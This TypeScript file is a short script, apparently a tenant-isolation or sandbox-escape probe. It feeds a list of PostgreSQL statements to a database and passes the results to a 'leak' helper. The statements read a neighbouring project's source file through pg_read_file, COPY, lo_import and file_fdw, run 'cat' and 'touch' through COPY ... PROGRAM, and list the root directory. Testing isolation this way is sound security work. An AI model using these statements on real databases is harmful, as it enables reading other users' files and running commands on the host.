import { query } from './query.ts';
import { targets } from './targets.ts';
import { attemptAsync, leak } from './tools.ts';

const file = `${targets.neighbour}/src/main.ts`;
const statements = [
  `SELECT pg_read_file('${file}')`,
  `CREATE TABLE f (line text); COPY f FROM '${file}'`,
  `CREATE TABLE p (line text); COPY p FROM PROGRAM 'cat ${file}'`,
  `SELECT lo_import('${file}')`,
  'SELECT * FROM f',
  'SELECT * FROM p',
  `CREATE EXTENSION file_fdw`,
  `COPY (SELECT 1) TO PROGRAM 'touch /tmp/${targets.token}'`,
  `SELECT pg_ls_dir('/')`,
];
for (const each of statements) await attemptAsync(async () => leak(await query(each)), 3000);
